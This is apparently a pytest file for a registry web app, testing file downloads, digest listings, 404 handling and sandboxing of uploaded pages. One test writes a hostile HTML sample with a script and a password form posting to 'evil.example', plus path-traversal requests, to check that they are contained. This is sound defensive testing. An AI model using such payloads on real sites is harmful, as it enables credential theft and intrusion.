"""A publication's files: byte for byte, and in a box; and what is not there."""

from __future__ import annotations

from pathlib import Path

import pytest
from starlette.testclient import TestClient

from tests.dossier.statements import made
from tests.registry.databases import put, signed, weighed
from tests.web.registry.conftest import root
from tests.web.registry.forms import PAGE, asked
from weighbridge.digests import digest_bytes
from weighbridge.dossier.statements.keys import PrivateKey
from weighbridge.registry.asked import Published
from weighbridge.registry.lookup import files_of
from weighbridge.registry.store import Store
from weighbridge.registry.upload import Upload
from weighbridge.web.registry import publications


@pytest.fixture
def kind() -> str:
    """Files come from the database as they went in, on both (`tests/registry`): here it is what is sent with them."""
    return "sqlite"


def path_of(found: Published) -> str:
    return f"/publications/{found.publication.removeprefix('sha256:')}"


def test_files_come_back_byte_for_byte_and_open_nothing(
    client: TestClient, published: Published, upload: Upload, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each as an attachment that is not guessed at; from memory or, when large, from a disk."""
    monkeypatch.setattr(publications, "_LARGE_BYTES", 5_000)
    page = asked(client, path_of(published))
    assert min(map(len, upload.files.values())) < 5_000 < max(map(len, upload.files.values()))
    for name, data in upload.files.items():
        found = client.get(f"{path_of(published)}/files/{name}")
        assert (found.status_code, found.content) == (200, data), name
        headers = found.headers
        assert headers["content-disposition"] == f'attachment; filename="{name.replace("/", "-")}"'
        assert headers["x-content-type-options"] == "nosniff" and headers["content-type"] == "application/octet-stream"
        assert "sandbox" in headers["content-security-policy"] and int(headers["content-length"]) == len(data)
        assert name in page
        tag = {"if-none-match": headers["etag"]}
        assert client.get(f"{path_of(published)}/files/{name}", headers=tag).status_code == 304


def test_a_dossiers_own_page_is_in_a_box(client: TestClient, store: Store, tmp_path: Path, upload: Upload) -> None:
    """It is a stranger's: no script, no form, no frame, nothing loaded, and not with our page's rights."""
    hostile = b"<script>fetch('/api')</script><form action='//evil.example'><input name=password></form>"
    folder = made.write(tmp_path / "hostile", weighed())
    (folder / "index.html").write_bytes(hostile)
    made.sign(folder, made.ed25519_key())
    from weighbridge.registry.upload import read_folder

    found = put(store, read_folder(folder))
    answered = client.get(f"{path_of(found)}/read/index.html", headers=PAGE)
    assert answered.content == hostile
    policy = [each.strip() for each in answered.headers["content-security-policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy and "form-action 'none'" in policy
    assert not [each for each in policy if each.startswith("script-src") or "allow-" in each]
    assert answered.headers["x-content-type-options"] == "nosniff"
    for name in ("card.md", "dossier.json", "../index.html", "index.htm", "statements"):
        assert client.get(f"{path_of(found)}/read/{name}").status_code == 404
        assert client.get(f"{path_of(found)}/files/..%2f{name}").status_code == 404


def test_what_is_not_there_is_404(client: TestClient) -> None:
    """A publication, a file of it, a closed model's impossible name: each says what to do."""
    nothing = "/publications/" + "0" * 64
    paths = (nothing, f"{nothing}/files/card.md", f"{nothing}/read/index.html", "/publications/x", "/closed/%20/x")
    for path in (*paths, f"/closed/a/{'b' * 121}", "/api/v1/notices/x", "/api/v1" + nothing, "/api/v1/closed/%0a/x"):
        found = client.get(path)
        assert found.status_code == 404 and found.json()["detail"], path
    assert client.get("/api/v1/candidates?prefix=abc").status_code == 400
    assert client.get("/api/v1/candidates").status_code == 422


def test_candidates_are_listed_for_programs(client: TestClient, published: Published, upload: Upload) -> None:
    """By 12 digits or more."""
    for prefix in (root(upload)[:12], "sha256:" + root(upload)[:20]):
        said = client.get("/api/v1/candidates", params={"prefix": prefix}).json()
        assert [each["digest"] for each in said["candidates"]] == ["sha256:" + root(upload)]
    assert client.get("/api/v1/candidates", params={"prefix": "0" * 12}).json()["candidates"] == []


def test_every_file_of_a_publication_is_listed(
    client: TestClient, store: Store, key: PrivateKey, tmp_path: Path
) -> None:
    """With its digest, so that who downloads can hold it against what was signed."""
    found = put(store, signed(tmp_path / "one", key))
    page = asked(client, path_of(found))
    said = client.get("/api/v1" + path_of(found)).json()
    assert (said["schema"], said["entry"]["publication"]) == ("weighbridge.publication/1", found.publication)
    for each in said["files"]:
        data = client.get(each["address"]).content
        assert (digest_bytes(data), len(data)) == (each["digest"], each["size_bytes"])
    with store.reading() as connection:
        for name, digest in files_of(connection, found.publication).items():
            assert name in page and digest.removeprefix("sha256:") in page
